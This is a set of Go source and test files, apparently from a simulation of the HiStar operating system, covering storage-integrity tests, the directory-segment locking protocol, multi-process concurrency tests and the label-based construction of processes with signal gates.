		t.Errorf("spawn+wait issued only %d syscalls; the process machinery should cost more", sys.Kern.SyscallTotal())
	}
}

// TestCorruptExtentSurfacesAsEIO proves the integrity plumbing end to end:
// bit rot in a persisted file's home extent is detected by the store on
// page-in, quarantined, surfaced to the file API as EIO, and visible
// through the kernel's storage-integrity stats — while other files keep
// reading normally.
func TestCorruptExtentSurfacesAsEIO(t *testing.T) {
	clk := &vclock.Clock{}
	d := disk.New(disk.Params{Sectors: 1 << 15, WriteCache: true}, clk) // 16 MB
	fdisk := disk.NewFaultDisk(d)
	st, err := store.Format(fdisk, store.Options{LogSize: 256 << 10, MetaAreaSize: 256 << 10})
	if err != nil {
		t.Fatal(err)
	}
	sys, err := Boot(BootOptions{Persist: st, KernelConfig: kernel.Config{Seed: 1}})
	if err != nil {
		t.Fatal(err)
	}
	p, err := sys.NewInitProcess("alice")
	if err != nil {
		t.Fatal(err)
	}
	pattern := bytes.Repeat([]byte("ROTTENBITS"), 400) // recognizable on the platter
	fd, err := p.Create("/tmp/victim", label.Label{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.Write(fd, pattern); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(fd); err != nil {
		t.Fatal(err)
	}
	if err := p.WriteFile("/tmp/bystander", []byte("healthy"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	// Whole-system sync writes home extents (with contents CRCs); evicting
	// the cache forces the next read to page in from disk.
	if err := sys.SyncWholeSystem(); err != nil {
		t.Fatal(err)
	}
	sys.EvictFileCache()

	// Locate the victim's home extent on the device and rot one bit of it.
	img := make([]byte, fdisk.Size())
	if _, err := fdisk.ReadAt(img, 0); err != nil {
		t.Fatal(err)
	}
	off := int64(bytes.Index(img, pattern))
	if off < 0 {
		t.Fatal("victim extent not found on the device")
	}
	if err := fdisk.RotBits(disk.Region{Off: off, Len: int64(len(pattern))}, 1, 17); err != nil {
		t.Fatal(err)
	}

	if _, err := p.ReadFile("/tmp/victim"); !errors.Is(err, ErrIO) {
		t.Fatalf("ReadFile of rotted file = %v; want ErrIO", err)
	}
	if data, err := p.ReadFile("/tmp/bystander"); err != nil || string(data) != "healthy" {
		t.Fatalf("bystander read = %q, %v", data, err)
	}
	ks, ok := sys.Kern.StorageIntegrityStats()
	if !ok {
		t.Fatal("kernel has no integrity source despite an attached store")
	}
	if ks.QuarantinedNow != 1 || ks.CorruptionsDetected == 0 {
		t.Fatalf("kernel integrity stats = %+v", ks)
	}
}
