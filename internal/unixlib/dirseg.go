package unixlib

import (
	"encoding/binary"
	"errors"

	"histar/internal/kernel"
)

// Directory segments (Section 5.1): each directory container holds a special
// segment mapping file names to object IDs.  Directory operations are
// synchronized with a mutex word in the segment (built on the kernel futex),
// and readers that cannot write the directory obtain a consistent view by
// checking a generation number and busy flag before and after each read.
//
// Layout of a directory segment:
//
//	offset  0: mutex word (futex; 0 = unlocked, 1 = locked)
//	offset  8: generation number
//	offset 16: busy flag
//	offset 24: entry count
//	offset 32: entries — {u16 name length, name bytes, u64 object ID, u8 type}
const (
	dsMutexOff = 0
	dsGenOff   = 8
	dsBusyOff  = 16
	dsCountOff = 24
	dsDataOff  = 32
)

// DirEntry is one name binding in a directory.
type DirEntry struct {
	Name string
	ID   kernel.ID
	Type kernel.ObjectType
}

func encodeDirEntries(entries []DirEntry) []byte {
	buf := make([]byte, dsDataOff)
	binary.LittleEndian.PutUint64(buf[dsCountOff:], uint64(len(entries)))
	for _, e := range entries {
		var hdr [2]byte
		binary.LittleEndian.PutUint16(hdr[:], uint16(len(e.Name)))
		buf = append(buf, hdr[:]...)
		buf = append(buf, e.Name...)
		var tail [9]byte
		binary.LittleEndian.PutUint64(tail[:8], uint64(e.ID))
		tail[8] = byte(e.Type)
		buf = append(buf, tail[:]...)
	}
	return buf
}

func decodeDirEntries(buf []byte) []DirEntry {
	if len(buf) < dsDataOff {
		return nil
	}
	count := binary.LittleEndian.Uint64(buf[dsCountOff:])
	out := make([]DirEntry, 0, count)
	p := buf[dsDataOff:]
	for i := uint64(0); i < count && len(p) >= 2; i++ {
		nameLen := int(binary.LittleEndian.Uint16(p))
		p = p[2:]
		if len(p) < nameLen+9 {
			break
		}
		name := string(p[:nameLen])
		p = p[nameLen:]
		id := kernel.ID(binary.LittleEndian.Uint64(p[:8]))
		typ := kernel.ObjectType(p[8])
		p = p[9:]
		out = append(out, DirEntry{Name: name, ID: id, Type: typ})
	}
	return out
}

// dirSegCE returns the container entry of a directory's segment, whose ID is
// stored in the directory container's metadata.  The binding is immutable
// once the directory exists, so it is served from the sharded dirSegs cache;
// only the first lookup of a directory pays the ObjectStat syscall.
func (sys *System) dirSegCE(tc *kernel.ThreadCall, dir kernel.ID) (kernel.CEnt, error) {
	shard := &sys.dirSegs[uint64(dir)%dirSegShards]
	shard.mu.RLock()
	segID, ok := shard.m[dir]
	shard.mu.RUnlock()
	if ok {
		return kernel.CEnt{Container: dir, Object: segID}, nil
	}
	st, err := tc.ObjectStat(kernel.Self(dir))
	if err != nil {
		return kernel.CEnt{}, mapKernelErr(err)
	}
	segID = kernel.ID(binary.LittleEndian.Uint64(st.Metadata[:8]))
	if segID == kernel.NilID {
		return kernel.CEnt{}, ErrNotDir
	}
	shard.mu.Lock()
	shard.m[dir] = segID
	shard.mu.Unlock()
	return kernel.CEnt{Container: dir, Object: segID}, nil
}

// lockDir acquires the directory mutex.  Threads that cannot write the
// directory segment get ErrPermission from the underlying write, exactly as
// the paper describes ("users that cannot write a directory cannot acquire
// the mutex").
func (sys *System) lockDir(tc *kernel.ThreadCall, seg kernel.CEnt) error {
	for {
		// Atomically set the mutex word 0 → 1 (a user-level cmpxchg on the
		// mapped directory segment).
		ok, err := tc.SegmentCompareSwap(seg, dsMutexOff, 0, 1)
		if err != nil {
			return mapKernelErr(err)
		}
		if ok {
			// Mark busy for lock-free readers.
			var busy [8]byte
			binary.LittleEndian.PutUint64(busy[:], 1)
			if err := tc.SegmentWrite(seg, dsBusyOff, busy[:]); err != nil {
				return mapKernelErr(err)
			}
			return nil
		}
		// Locked by someone else: wait on the futex.
		if err := tc.FutexWait(seg, dsMutexOff, 1); err != nil {
			return mapKernelErr(err)
		}
	}
}

// unlockDir releases the directory mutex, bumping the generation number.
func (sys *System) unlockDir(tc *kernel.ThreadCall, seg kernel.CEnt) error {
	genBytes, err := tc.SegmentRead(seg, dsGenOff, 8)
	if err != nil {
		return mapKernelErr(err)
	}
	gen := binary.LittleEndian.Uint64(genBytes) + 1
	var buf [8]byte
	binary.LittleEndian.PutUint64(buf[:], gen)
	if err := tc.SegmentWrite(seg, dsGenOff, buf[:]); err != nil {
		return mapKernelErr(err)
	}
	var zero [8]byte
	if err := tc.SegmentWrite(seg, dsBusyOff, zero[:]); err != nil {
		return mapKernelErr(err)
	}
	if err := tc.SegmentWrite(seg, dsMutexOff, zero[:]); err != nil {
		return mapKernelErr(err)
	}
	_, err = tc.FutexWake(seg, dsMutexOff, 1)
	return mapKernelErr(err)
}

// maxSegRead asks a ring read for "the rest of the segment": SegmentRead
// clamps to the segment's length, so no separate SegmentLen call is needed.
const maxSegRead = int(^uint(0) >> 1)

// readDirEntries returns a consistent snapshot of a directory's entries.
// Writers hold the mutex; readers without write permission retry until the
// generation number is stable and the busy flag clear.
//
// The three reads of one attempt (generation+busy, whole segment, generation
// again) go through the syscall ring as a single chained batch: one kernel
// entry and — because same-target entries coalesce — one lock round-trip on
// the directory segment, where the direct path paid four syscalls
// (read, len, read, read).  The generation/busy protocol is kept even though
// a coalesced batch reads atomically under the segment's lock: a writer
// holding the user-level directory mutex updates the segment across several
// syscalls, so a batch can still observe a mid-update (busy) state.
func (sys *System) readDirEntries(tc *kernel.ThreadCall, seg kernel.CEnt) ([]DirEntry, error) {
	r := tc.NewRing()
	for attempt := 0; ; attempt++ {
		r.Submit(
			kernel.RingEntry{Op: kernel.OpSegmentRead, Seg: seg, Off: dsGenOff, Len: 16},
			kernel.RingEntry{Op: kernel.OpSegmentRead, Seg: seg, Off: 0, Len: maxSegRead, Chain: true},
			kernel.RingEntry{Op: kernel.OpSegmentRead, Seg: seg, Off: dsGenOff, Len: 8, Chain: true},
		)
		comps, err := r.Wait(3)
		if err != nil {
			return nil, mapKernelErr(err)
		}
		for i := range comps {
			if comps[i].Err != nil {
				return nil, mapKernelErr(comps[i].Err)
			}
		}
		before, buf, after := comps[0].Val, comps[1].Val, comps[2].Val
		if len(before) < 16 || len(after) < 8 {
			return nil, ErrInvalid
		}
		genBefore := binary.LittleEndian.Uint64(before[:8])
		busy := binary.LittleEndian.Uint64(before[8:16])
		genAfter := binary.LittleEndian.Uint64(after)
		if busy == 0 && genBefore == genAfter {
			return decodeDirEntries(buf), nil
		}
		if attempt > 10000 {
			return decodeDirEntries(buf), nil
		}
	}
}

// readDirEntriesLocked reads the directory's entries without the
// generation/busy consistency protocol; callers holding the directory mutex
// use it (a writer would otherwise spin on its own busy flag).
func (sys *System) readDirEntriesLocked(tc *kernel.ThreadCall, seg kernel.CEnt) ([]DirEntry, error) {
	n, err := tc.SegmentLen(seg)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	buf, err := tc.SegmentRead(seg, 0, n)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	return decodeDirEntries(buf), nil
}

// writeDirEntries replaces the directory's entries; the caller must hold the
// directory mutex.
func (sys *System) writeDirEntries(tc *kernel.ThreadCall, seg kernel.CEnt, entries []DirEntry) error {
	buf := encodeDirEntries(entries)
	// Preserve the mutex/generation/busy words at the front.
	head, err := tc.SegmentRead(seg, 0, dsDataOff)
	if err != nil {
		return mapKernelErr(err)
	}
	copy(buf[:dsDataOff], head)
	binary.LittleEndian.PutUint64(buf[dsCountOff:], uint64(len(entries)))
	if err := sys.segResize(tc, seg, len(buf)); err != nil {
		return err
	}
	return sys.segWrite(tc, seg, 0, buf)
}

// mapKernelErr translates kernel errors into the library's errno-style
// errors, leaving nil and library errors untouched.
func mapKernelErr(err error) error {
	switch err {
	case nil:
		return nil
	case kernel.ErrLabel, kernel.ErrClearance, kernel.ErrImmutable:
		return ErrPermission
	case kernel.ErrNoSuchObject, kernel.ErrNotFound:
		return ErrNotExist
	case kernel.ErrInvalid:
		return ErrInvalid
	default:
		// Storage-corruption errors arrive wrapped with object detail.
		if errors.Is(err, kernel.ErrCorrupt) {
			return ErrIO
		}
		return err
	}
}
