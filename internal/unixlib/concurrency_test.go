package unixlib

// Multi-process concurrency: with the kernel's sharded object table (PR 2)
// and the store's sharded cache + group commit underneath, the library's
// remaining serialization points are its own tables.  These tests race many
// processes through file creation, I/O, fsync, spawn/wait, signals, shared
// descriptors and mount tables; CI runs them under -race.

import (
	"bytes"
	"fmt"
	"sync"
	"testing"

	"histar/internal/label"
)

// TestConcurrentProcessesFileWorkload races per-process private directories
// against a shared read-only file and per-file fsyncs through the group
// committer, then checkpoints and verifies every file.
func TestConcurrentProcessesFileWorkload(t *testing.T) {
	sys, st, _ := bootSysPersist(t)
	root, err := sys.NewInitProcess("root")
	if err != nil {
		t.Fatal(err)
	}
	shared := []byte("shared read-only contents")
	if err := root.WriteFile("/tmp/shared", shared, label.New(label.L1)); err != nil {
		t.Fatal(err)
	}

	const (
		workers      = 6
		filesPerProc = 8
	)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			p, err := sys.NewInitProcess(fmt.Sprintf("worker%d", w))
			if err != nil {
				t.Errorf("worker %d: %v", w, err)
				return
			}
			dir := fmt.Sprintf("/tmp/w%d", w)
			if err := p.Mkdir(dir, label.New(label.L1)); err != nil {
				t.Errorf("worker %d mkdir: %v", w, err)
				return
			}
			for i := 0; i < filesPerProc; i++ {
				path := fmt.Sprintf("%s/f%d", dir, i)
				data := []byte(fmt.Sprintf("worker %d file %d", w, i))
				if err := p.WriteFile(path, data, label.New(label.L1)); err != nil {
					t.Errorf("worker %d write: %v", w, err)
					return
				}
				// fsync through the store's group committer: concurrent
				// workers share WAL commits.
				if err := p.FsyncPath(path); err != nil {
					t.Errorf("worker %d fsync: %v", w, err)
					return
				}
				got, err := p.ReadFile(path)
				if err != nil || !bytes.Equal(got, data) {
					t.Errorf("worker %d readback: %q, %v", w, got, err)
					return
				}
				if got, err := p.ReadFile("/tmp/shared"); err != nil || !bytes.Equal(got, shared) {
					t.Errorf("worker %d shared read: %v", w, err)
					return
				}
			}
			if i := w % filesPerProc; i >= 0 {
				if err := p.Unlink(fmt.Sprintf("%s/f%d", dir, i)); err != nil {
					t.Errorf("worker %d unlink: %v", w, err)
				}
			}
		}(w)
	}
	wg.Wait()
	if t.Failed() {
		return
	}
	ws := st.WALStats()
	if ws.Appended == 0 {
		t.Error("no WAL records logged by concurrent fsyncs")
	}
	if err := root.GroupSync(); err != nil {
		t.Fatal(err)
	}
	for w := 0; w < workers; w++ {
		for i := 0; i < filesPerProc; i++ {
			path := fmt.Sprintf("/tmp/w%d/f%d", w, i)
			got, err := root.ReadFile(path)
			if i == w%filesPerProc {
				if err == nil {
					t.Errorf("%s should be unlinked", path)
				}
				continue
			}
			want := []byte(fmt.Sprintf("worker %d file %d", w, i))
			if err != nil || !bytes.Equal(got, want) {
				t.Errorf("%s = %q, %v", path, got, err)
			}
		}
	}
}

// TestConcurrentSpawnWaitAndPrograms races program registration/lookup, PID
// allocation, spawn and wait across goroutines.
func TestConcurrentSpawnWaitAndPrograms(t *testing.T) {
	sys := bootSys(t)
	if err := sys.RegisterProgram("/bin/true", func(p *Process, args []string) int { return 0 }); err != nil {
		t.Fatal(err)
	}
	const workers = 5
	var wg sync.WaitGroup
	pids := make([][]int, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			p, err := sys.NewInitProcess("spawner")
			if err != nil {
				t.Errorf("worker %d: %v", w, err)
				return
			}
			if err := sys.RegisterProgram(fmt.Sprintf("/bin/w%d", w), func(p *Process, args []string) int { return w }); err != nil {
				t.Errorf("worker %d register: %v", w, err)
				return
			}
			for i := 0; i < 4; i++ {
				child, err := p.Spawn("/bin/true", nil)
				if err != nil {
					t.Errorf("worker %d spawn: %v", w, err)
					return
				}
				pids[w] = append(pids[w], child.PID)
				if st, err := p.Wait(child); err != nil || st != 0 {
					t.Errorf("worker %d wait: %d, %v", w, st, err)
					return
				}
			}
			own, err := p.Spawn(fmt.Sprintf("/bin/w%d", w), nil)
			if err != nil {
				t.Errorf("worker %d spawn own: %v", w, err)
				return
			}
			if st, err := p.Wait(own); err != nil || st != w {
				t.Errorf("worker %d own program exited %d, %v", w, st, err)
			}
		}(w)
	}
	wg.Wait()
	if t.Failed() {
		return
	}
	seen := make(map[int]bool)
	for _, ps := range pids {
		for _, pid := range ps {
			if seen[pid] {
				t.Fatalf("pid %d allocated twice", pid)
			}
			seen[pid] = true
		}
	}
}

// TestSharedDescriptorSeekIsAtomic forks a child and has both processes read
// the same descriptor concurrently: the shared seek lock must hand each
// reader a distinct, non-overlapping chunk of the file.
func TestSharedDescriptorSeekIsAtomic(t *testing.T) {
	sys := bootSys(t)
	p, err := sys.NewInitProcess("root")
	if err != nil {
		t.Fatal(err)
	}
	const chunk = 16
	const chunks = 64
	data := make([]byte, chunk*chunks)
	for i := range data {
		data[i] = byte(i / chunk)
	}
	if err := p.WriteFile("/tmp/seekfile", data, label.New(label.L1)); err != nil {
		t.Fatal(err)
	}
	fd, err := p.Open("/tmp/seekfile", ORead)
	if err != nil {
		t.Fatal(err)
	}
	child, err := p.Fork()
	if err != nil {
		t.Fatal(err)
	}
	var (
		mu     sync.Mutex
		firsts []byte
		wg     sync.WaitGroup
	)
	reader := func(proc *Process) {
		defer wg.Done()
		buf := make([]byte, chunk)
		for {
			n, err := proc.Read(fd, buf)
			if err != nil {
				t.Errorf("read: %v", err)
				return
			}
			if n == 0 {
				return
			}
			if n != chunk {
				t.Errorf("short read: %d", n)
				return
			}
			for _, b := range buf[1:] {
				if b != buf[0] {
					t.Errorf("torn read: chunk mixes %d and %d", buf[0], b)
					return
				}
			}
			mu.Lock()
			firsts = append(firsts, buf[0])
			mu.Unlock()
		}
	}
	wg.Add(2)
	go reader(p)
	go reader(child)
	wg.Wait()
	if t.Failed() {
		return
	}
	if len(firsts) != chunks {
		t.Fatalf("read %d chunks, want %d", len(firsts), chunks)
	}
	seen := make(map[byte]bool)
	for _, f := range firsts {
		if seen[f] {
			t.Fatalf("chunk %d read twice: shared seek position raced", f)
		}
		seen[f] = true
	}
}

// TestConcurrentMountTables races mount-table mutation in one process with
// resolution through cloned tables in others.
func TestConcurrentMountTables(t *testing.T) {
	sys := bootSys(t)
	p, err := sys.NewInitProcess("root")
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Mkdir("/tmp/target", label.New(label.L1)); err != nil {
		t.Fatal(err)
	}
	if err := p.WriteFile("/tmp/target/inside", []byte("mounted"), label.New(label.L1)); err != nil {
		t.Fatal(err)
	}
	fi, err := p.Stat("/tmp/target")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				prefix := fmt.Sprintf("/mnt%d", w)
				p.Mounts().Mount(prefix, fi.ID)
				if got, err := p.ReadFile(prefix + "/inside"); err != nil || string(got) != "mounted" {
					t.Errorf("worker %d: read through mount: %q, %v", w, got, err)
					return
				}
				clone := p.Mounts().Clone()
				if _, ok := clone.Lookup(prefix); !ok {
					t.Errorf("worker %d: clone lost the mount", w)
					return
				}
				p.Mounts().Unmount(prefix)
			}
		}(w)
	}
	wg.Wait()
}
