package unixlib

import (
	"encoding/binary"
	"fmt"
	"sync"

	"histar/internal/kernel"
	"histar/internal/label"
)

// A process in HiStar is a user-space convention (Section 5.2, Figure 6):
// two categories pr and pw protect its secrecy and integrity; a process
// container exposes the external interface (signal gate, exit status
// segment) and an internal container holds the address space and private
// segments.  All of it is built by this untrusted library with only the
// invoking user's privileges.

// Exit-status segment layout: word 0 is 1 once the process has exited, word
// 1 is the exit status.  Waiters block on a futex at offset 0.
const (
	exitFlagOff   = 0
	exitStatusOff = 8
	exitSegSize   = 16
)

// Process is one Unix-style process.
type Process struct {
	sys *System
	PID int

	// TC is the process's main thread.
	TC *kernel.ThreadCall
	// Pr and Pw are the process secrecy and integrity categories.
	Pr, Pw label.Category
	// ProcCt is the process container (externally readable), IntCt the
	// internal container (private to the process).
	ProcCt, IntCt kernel.ID
	// AS is the process's address space object.
	AS kernel.CEnt
	// ExitSeg is the exit status segment in the process container.
	ExitSeg kernel.CEnt
	// SignalGate delivers signals to the process (Section 5.6).
	SignalGate kernel.CEnt
	// User is the account whose privileges the process runs with (may be
	// nil for daemon-style processes).
	User *User

	// No process-wide lock: the descriptor table has its own read-mostly
	// RWMutex (per-descriptor state is additionally guarded by the FD's
	// shared seek lock), the mount table locks itself, and the remaining
	// mutable scraps (cwd, exit flag, signal handlers) sit behind two small
	// leaf mutexes.
	fdMu     sync.RWMutex
	fds      map[int]*FD
	mu       sync.Mutex // cwd, exited
	cwd      string
	exited   bool
	mounts   *MountTable
	sigMu    sync.Mutex
	handlers map[int]func(sig int)
}

// Sys returns the owning System.
func (p *Process) Sys() *System { return p.sys }

// Cwd returns the current working directory path.
func (p *Process) Cwd() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.cwd
}

// Chdir changes the working directory.
func (p *Process) Chdir(path string) error {
	dir, _, entry, err := p.sys.resolve(p.TC, p.sys.RootDir, p.abs(path), p.mounts)
	if err != nil {
		return err
	}
	_ = dir
	if entry == nil || entry.Type != kernel.ObjContainer {
		return ErrNotDir
	}
	p.mu.Lock()
	p.cwd = cleanPath(path)
	p.mu.Unlock()
	return nil
}

// Mounts returns the process's mount table.
func (p *Process) Mounts() *MountTable { return p.mounts }

func (p *Process) abs(path string) string {
	if len(path) > 0 && path[0] == '/' {
		return path
	}
	cwd := p.Cwd()
	if cwd == "/" {
		return "/" + path
	}
	return cwd + "/" + path
}

// NewInitProcess builds a fully privileged process for the named user (the
// equivalent of what login produces after successful authentication).  It is
// also the hook trusted bootstrap code uses to run daemons.
func (sys *System) NewInitProcess(userName string) (*Process, error) {
	var u *User
	if userName != "" {
		if existing, ok := sys.LookupUser(userName); ok {
			u = existing
		} else {
			created, err := sys.AddUser(userName)
			if err != nil && err != ErrExist {
				return nil, err
			}
			if err == nil {
				u = created
			} else {
				u, _ = sys.LookupUser(userName)
			}
		}
	}
	return sys.newProcess(sys.initTC, u, "/", nil)
}

// newProcess builds the kernel objects of Figure 6 on behalf of creator,
// running with user u's privileges.
func (sys *System) newProcess(creator *kernel.ThreadCall, u *User, cwd string, mounts *MountTable) (*Process, error) {
	return sys.newProcessExtra(creator, u, cwd, mounts, nil)
}

// newProcessExtra additionally taints the new process in the given
// categories (both its thread label and every process object), which is how
// wrap launches the virus scanner tainted v3 (Section 6.1) and how tainted
// gate-call forking builds its child (Section 5.5).  A tainted process gets
// no user privileges.
func (sys *System) newProcessExtra(creator *kernel.ThreadCall, u *User, cwd string, mounts *MountTable, taint []label.Pair) (*Process, error) {
	pr, err := creator.CategoryCreateNamed("pr")
	if err != nil {
		return nil, mapKernelErr(err)
	}
	pw, err := creator.CategoryCreateNamed("pw")
	if err != nil {
		return nil, mapKernelErr(err)
	}
	withTaint := func(l label.Label) label.Label {
		for _, t := range taint {
			l = l.With(t.Category, t.Level)
		}
		return l
	}
	// Process container: {pw0, 1} — readable by others, writable only with
	// pw — plus any taint, so the tainted process can still manage itself.
	procLbl := withTaint(label.New(label.L1, label.P(pw, label.L0)))
	procCt, err := creator.ContainerCreate(sys.Kern.RootContainer(), procLbl, "process container", 0, kernel.QuotaInfinite)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	// Internal container: {pr3, pw0, 1} — private to the process.
	intLbl := withTaint(label.New(label.L1, label.P(pr, label.L3), label.P(pw, label.L0)))
	intCt, err := creator.ContainerCreate(procCt, intLbl, "internal container", 0, kernel.QuotaInfinite)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	// Exit status segment: {pw0, 1} (+ taint).
	exitSeg, err := creator.SegmentCreate(procCt, procLbl, "exit status", exitSegSize)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	// Address space: {pr3, pw0, 1} (+ taint).
	as, err := creator.AddressSpaceCreate(intCt, intLbl, "process AS")
	if err != nil {
		return nil, mapKernelErr(err)
	}
	// Thread label: the process categories plus the user's privileges (for
	// an untainted process) or the taint levels (for a tainted one).
	thrLbl := label.New(label.L1, label.P(pr, label.Star), label.P(pw, label.Star))
	thrClr := label.New(label.L2, label.P(pr, label.L3), label.P(pw, label.L3))
	if u != nil && len(taint) == 0 {
		thrLbl = thrLbl.With(u.Ur, label.Star).With(u.Uw, label.Star)
		thrClr = thrClr.With(u.Ur, label.L3).With(u.Uw, label.L3)
	}
	for _, t := range taint {
		thrLbl = thrLbl.With(t.Category, t.Level)
		lvl := t.Level
		if lvl < label.L3 {
			lvl = label.L3
		}
		thrClr = thrClr.With(t.Category, lvl)
	}
	if u != nil && len(taint) > 0 {
		u = nil
	}
	// The creator must own pr/pw (it allocated them) and the user categories
	// (init or login does); thread creation enforces LT ⊑ LT'.
	tid, err := creator.ThreadCreate(procCt, kernel.ThreadSpec{
		Label:        thrLbl,
		Clearance:    thrClr,
		AddressSpace: kernel.CEnt{Container: intCt, Object: as},
		Descrip:      "process main thread",
	})
	if err != nil {
		return nil, mapKernelErr(err)
	}
	tc, err := sys.Kern.ThreadCall(tid)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	if mounts == nil {
		mounts = NewMountTable()
	}
	p := &Process{
		sys:      sys,
		PID:      sys.allocPID(),
		TC:       tc,
		Pr:       pr,
		Pw:       pw,
		ProcCt:   procCt,
		IntCt:    intCt,
		AS:       kernel.CEnt{Container: intCt, Object: as},
		ExitSeg:  kernel.CEnt{Container: procCt, Object: exitSeg},
		User:     u,
		fds:      make(map[int]*FD),
		cwd:      cleanPath(cwd),
		mounts:   mounts,
		handlers: make(map[int]func(int)),
	}
	if err := p.createSignalGate(creator); err != nil {
		return nil, err
	}
	// Conventional stack, heap and text segments inside the internal
	// container, mapped into the address space (they carry no file contents
	// in this simulation but reproduce the object and syscall structure).
	if err := p.setupMemorySegments(creator, intLbl); err != nil {
		return nil, err
	}
	return p, nil
}

// NewThread creates an additional thread in the process, sharing its address
// space and starting with the process's current label and clearance.  This is
// how a multi-threaded daemon — the webd demultiplexer's lanes, Section 6.4 —
// gets per-lane syscall contexts (each with its own ring) without new
// processes.  The caller drives the returned ThreadCall from its own
// goroutine; the thread is not scheduled independently in this simulation.
func (p *Process) NewThread(descrip string) (*kernel.ThreadCall, error) {
	lbl, err := p.TC.SelfLabel()
	if err != nil {
		return nil, mapKernelErr(err)
	}
	clr, err := p.TC.SelfClearance()
	if err != nil {
		return nil, mapKernelErr(err)
	}
	tid, err := p.TC.ThreadCreate(p.ProcCt, kernel.ThreadSpec{
		Label:        lbl,
		Clearance:    clr,
		AddressSpace: p.AS,
		Descrip:      descrip,
	})
	if err != nil {
		return nil, mapKernelErr(err)
	}
	tc, err := p.sys.Kern.ThreadCall(tid)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	return tc, nil
}

// createSignalGate exposes a gate in the process container whose entry sends
// an alert to the process's main thread (Section 5.6).  Its clearance is
// {uw0, 2} so only threads with the owning user's privilege can signal.
func (p *Process) createSignalGate(creator *kernel.ThreadCall) error {
	// Callers need clearance in pr/pw to request the gate's ownership of
	// them across the call; the uw0 entry restricts who may call at all.
	clearance := label.New(label.L2,
		label.P(p.Pr, label.L3), label.P(p.Pw, label.L3))
	if p.User != nil {
		clearance = clearance.With(p.User.Uw, label.L0)
	}
	gateLbl := label.New(label.L1, label.P(p.Pr, label.Star), label.P(p.Pw, label.Star))
	target := p.TC
	gid, err := creator.GateCreate(p.ProcCt, kernel.GateSpec{
		Label:     gateLbl,
		Clearance: clearance,
		Descrip:   "signal gate",
		Entry: func(call *kernel.GateCallCtx) []byte {
			if len(call.Args) < 8 {
				return []byte("bad signal")
			}
			sig := binary.LittleEndian.Uint64(call.Args)
			// Deliver the alert with the process's own privilege (the gate
			// carries pr⋆/pw⋆, so the entering thread can write the AS).
			if err := call.TC.ThreadAlert(kernel.CEnt{Container: p.ProcCt, Object: target.ID()}, sig); err != nil {
				return []byte("alert failed: " + err.Error())
			}
			return []byte("ok")
		},
	})
	if err != nil {
		return mapKernelErr(err)
	}
	p.SignalGate = kernel.CEnt{Container: p.ProcCt, Object: gid}
	return nil
}

// setupMemorySegments creates the conventional text/data/heap/stack segments
// and maps them into the process address space.
func (p *Process) setupMemorySegments(creator *kernel.ThreadCall, lbl label.Label) error {
	layout := []struct {
		name string
		va   uint64
		size int
	}{
		{"text", 0x400000, 4 * kernel.PageSize},
		{"data", 0x600000, 2 * kernel.PageSize},
		{"heap", 0x800000, 4 * kernel.PageSize},
		{"stack", 0x7ff000000000, 4 * kernel.PageSize},
	}
	for _, seg := range layout {
		id, err := creator.SegmentCreate(p.IntCt, lbl, seg.name, seg.size)
		if err != nil {
			return mapKernelErr(err)
		}
		err = creator.AddressSpaceAddMapping(p.AS, kernel.Mapping{
			VA:     seg.va,
			Seg:    kernel.CEnt{Container: p.IntCt, Object: id},
			NPages: uint64(seg.size / kernel.PageSize),
			Flags:  kernel.MapRead | kernel.MapWrite,
		})
		if err != nil {
			return mapKernelErr(err)
		}
	}
	// The thread-local segment mapping.
	return mapKernelErr(creator.AddressSpaceAddMapping(p.AS, kernel.Mapping{
		VA:     0x7fe000000000,
		NPages: 1,
		Flags:  kernel.MapRead | kernel.MapWrite | kernel.MapThreadLocal,
	}))
}

// Spawn starts the registered program at path in a freshly built process,
// without the intermediate fork: the more efficient primitive the
// lower-level kernel interface makes possible (Section 7.1).  The returned
// process is already running; use Wait to collect its exit status.
func (p *Process) Spawn(path string, args []string) (*Process, error) {
	prog, ok := p.sys.LookupProgram(p.abs(path))
	if !ok {
		return nil, ErrNoProgram
	}
	child, err := p.sys.newProcess(p.TC, p.User, p.Cwd(), p.mounts.Clone())
	if err != nil {
		return nil, err
	}
	// The child inherits the parent's standard descriptors by sharing the
	// descriptor segments (no copies; spawn passes them through).
	p.shareFDs(child, false)
	go child.run(prog, args)
	return child, nil
}

// SpawnTainted starts the registered program at path in a new process that
// is tainted with the given category/level pairs and carries none of the
// parent's user privileges.  This is how wrap launches the virus scanner
// tainted v3 (and ur3, so it can read the user's files without being able to
// modify them or talk to anything untainted).
func (p *Process) SpawnTainted(path string, args []string, taint []label.Pair) (*Process, error) {
	prog, ok := p.sys.LookupProgram(p.abs(path))
	if !ok {
		return nil, ErrNoProgram
	}
	child, err := p.sys.newProcessExtra(p.TC, p.User, p.Cwd(), p.mounts.Clone(), taint)
	if err != nil {
		return nil, err
	}
	go child.run(prog, args)
	return child, nil
}

// Fork creates a copy of the calling process: a new process whose address
// space, memory segments, and descriptor table are copies of the parent's.
// It issues far more system calls than Spawn — the effect the fork/exec
// microbenchmark measures.  The child is returned in a not-yet-running
// state; call Exec on it (or Run) to give it code.
func (p *Process) Fork() (*Process, error) {
	child, err := p.sys.newProcess(p.TC, p.User, p.Cwd(), p.mounts.Clone())
	if err != nil {
		return nil, err
	}
	// Copy the parent's memory segments into the child's internal container
	// and rebuild the child's mappings, as the library's fork does by
	// copying the address space object and its segments.
	maps, err := p.TC.AddressSpaceGet(p.AS)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	intLbl := label.New(label.L1, label.P(child.Pr, label.L3), label.P(child.Pw, label.L0))
	var newMaps []kernel.Mapping
	for _, m := range maps {
		if m.Flags&kernel.MapThreadLocal != 0 {
